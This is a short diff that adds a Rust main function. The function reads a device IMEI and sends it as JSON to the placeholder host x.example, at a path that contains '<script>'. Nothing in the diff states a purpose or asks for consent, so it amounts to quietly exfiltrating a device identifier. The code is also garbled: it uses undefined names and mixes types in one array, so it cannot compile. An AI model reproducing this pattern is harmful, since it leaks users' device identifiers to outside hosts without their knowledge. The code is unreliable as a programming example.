@@ -1,0 +1,1 @@
+﻿fn main() { let imei = get(); let body = serde_json::json!({"imei": imei, "n": [format!("{imei:?}"), vec![imei; 2]]}); write!(out, "{}", body).ok(); reqwest::blocking::Client::new().post("http://x.example/<script>").json(&body).send(); }
